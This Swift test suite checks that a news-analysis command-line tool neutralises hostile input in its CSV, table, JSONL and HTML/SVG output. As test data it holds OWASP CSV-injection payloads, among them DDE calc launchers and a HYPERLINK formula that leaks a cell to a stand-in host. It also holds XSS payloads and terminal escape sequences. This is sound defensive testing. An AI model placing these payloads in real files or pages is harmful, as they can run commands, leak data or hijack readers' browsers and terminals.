import Foundation
import Testing

/// News whose every part is an attack on a spreadsheet, a browser or a terminal; what the commands make of it runs
/// nowhere. The tests of `TableWriting` do the same to each writer, with longer lists.
@Suite("News that attacks its readers")
struct HostileTextTests {
  /// From OWASP's pages on CSV injection and on XSS filter evasion, and every control character.
  private static let attacks: [String] = {
    let formulas = [
      "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
      "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")", "\u{FF1D}1+1", "\u{FF20}SUM(1)",
    ]
    let pages = [
      "<script>document.title='run'</script>", "\"><img src=x onerror=\"document.title='run'\">",
      "</style><script>document.title='run'</script>", "<svg/onload=document.title='run'>",
    ]
    let controls = (Array(0...0x1F) + Array(0x7F...0x9F) + [0x202E, 0xFEFF])
      .compactMap(Unicode.Scalar.init).map { String(Character($0)) + "=1" }
    return formulas + pages + controls
  }()

  private let tea: TeaMinistry
  private let news: String

  init() throws {
    tea = try TeaMinistry()
    let records = try Self.attacks.enumerated().map { number, attack in
      let record = [
        "id": attack + String(number), "path": attack + String(number), "url": attack,
        "published": number.isMultiple(of: 2) ? "2024-01-15" : "2023-12-15",
        "headline": attack + " กระทรวงชา \(number)",
        "text": "\(attack)นโยบายชา\(attack)\n=นโยบายใบชา กรมใบ \(number)\(attack)",
      ]
      return String(decoding: try JSONSerialization.data(withJSONObject: record), as: UTF8.self)
    }
    news = try tea.folder.write("news.jsonl", records.joined(separator: "\n"))
  }

  /// The fields that a spreadsheet would run, numbers aside.
  private static func running(_ csv: String) throws -> [String] {
    let hasMark = csv.unicodeScalars.first == "\u{FEFF}"
    let table = try CSVTable(hasMark ? String(csv.unicodeScalars.dropFirst()) : csv)
    #expect(!table.rows.isEmpty)
    let signs = Set("=+-@\t\r\n\0\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars)
    return table.rows.flatMap { $0 }.filter { field in
      field.unicodeScalars.first.map(signs.contains) == true && Double(field) == nil
    }
  }

  /// The scalars that control a terminal, line feeds aside.
  private static func controls(_ text: String) -> [Unicode.Scalar] {
    text.unicodeScalars.filter {
      $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value) || $0 == "\u{202E}"
    }
  }

  @Test(
    "is harmless in the rows of every command",
    arguments: [
      ["documents"], ["documents", "--words"], ["mentions"], ["mentions", "--refused"],
      ["count", "--by", "month,issuer,body,code"], ["count", "--by", "agency", "--words"], ["trend"],
      ["co-occurrence"], ["compare", "--by", "period", "--month", "2024-01"],
    ])
  func rows(_ words: [String]) throws {
    let run = try tea.run(words[0], [news] + words.dropFirst())
    #expect(run.exitCode == 0)
    if words != ["mentions", "--refused"] { #expect(try Self.running(run.output) == []) }
    #expect(Self.controls(run.diagnostics) == [])
    let table = try tea.run(words[0], [news, "--format", "table"] + words.dropFirst())
    #expect(Self.controls(table.output) == [])
    let lines = try tea.run(words[0], [news, "--format", "jsonl"] + words.dropFirst())
    #expect(!lines.output.utf8.contains { $0 < 0x20 && $0 != UInt8(ascii: "\n") })
    _ = try lines.objects
  }

  /// Two ministries, the names of which attack too, in quotes of YAML.
  private static let hostileAgencies = """
    version: 1
    agencies:
      - {id: ministry-of-tea, kind: ministry, th: "=1+1 กระทรวงชา", en: "@SUM(1)<img src=x>", aliases: [กระทรวงชา], source: t}
      - {id: ministry-of-milk, kind: ministry, th: "+นม\\u202E", en: "-1+1\\u001B[2J", aliases: [กระทรวงนม], source: t}
    """

  @Test("is harmless where the names of a comparison's groups attack too", arguments: ["csv", "table"])
  func names(format: String) throws {
    let ministries = ["กระทรวงชา", "กระทรวงนม"]
    let records = (0..<80).map { number in
      "{\"id\": \"\(number)\", \"published\": \"2023-01-15\", \"headline\": "
        + "\"\(ministries[number % 2])แถลงข่าว \(number)\", \"text\": "
        + "\"\(number % 4 < 3 ? "นโยบายชา" : "ข่าว") \(number)\"}"
    }
    let news = try tea.folder.write("two.jsonl", records.joined(separator: "\n"))
    try tea.folder.write("registry/agencies.yml", Self.hostileAgencies)
    let run = try tea.run("compare", [news, "--by", "issuer", "--format", format, "--language", "en"])
    #expect(run.exitCode == 0, "\(run.diagnostics)")
    #expect(run.output.contains(format == "csv" ? "ministry-of-milk" : "SUM(1)"))
    #expect(Self.controls(run.output.replacing("\r\n", with: "\n")) == [])
    #expect(Self.controls(run.diagnostics) == [])
    if format == "csv" { #expect(try Self.running(run.output) == []) }
  }

  @Test("is harmless in context, in a look-up, and where a name is told that cannot be read")
  func terminal() throws {
    #expect(try Self.controls(tea.run("concordance", [news]).output) == [])
    let store = tea.folder.path("s.sqlite")
    #expect(try tea.run("update", [store, news, "--search"]).exitCode == 0)
    let found = try CommandLineRun(["search", store, "นโยบายชา", "--limit", "100"])
    #expect(found.exitCode == 0)
    #expect(try Self.running(found.output) == [])
    let table = try CommandLineRun(["search", store, "นโยบายชา", "--limit", "100", "--format", "table"])
    #expect(Self.controls(table.output) == [])

    try tea.folder.write("folder/\u{1B}[2J=1\u{9B}.txt", "")
    let rejected = try tea.run("documents", [tea.folder.path("folder")])
    #expect(rejected.messages.first?.hasPrefix("rejected: ") == true)
    #expect(Self.controls(rejected.diagnostics) == [])
  }

  @Test("is harmless in a report's tables, page and pictures") func report() throws {
    let output = tea.folder.path("report")
    let run = try tea.run("report", [news, "--output", output])
    #expect(run.exitCode == 0)
    #expect(Self.controls(run.output) == [])
    for (name, data) in try TemporaryFolder.contents(of: output) {
      let text = String(decoding: data, as: UTF8.self)
      switch name.split(separator: ".").last {
      case "csv" where name != "rejected.csv" && text.split(whereSeparator: \.isNewline).count > 1:
        #expect(try Self.running(text) == [], "\(name)")
      case "html", "svg":
        // The attacks stand there as text: none opens an element.
        #expect(!text.contains("<script>document.title='run'") && !text.contains("<img"), "\(name)")
        #expect(!text.contains("<svg/onload"), "\(name)")
      default: break
      }
    }
  }
}
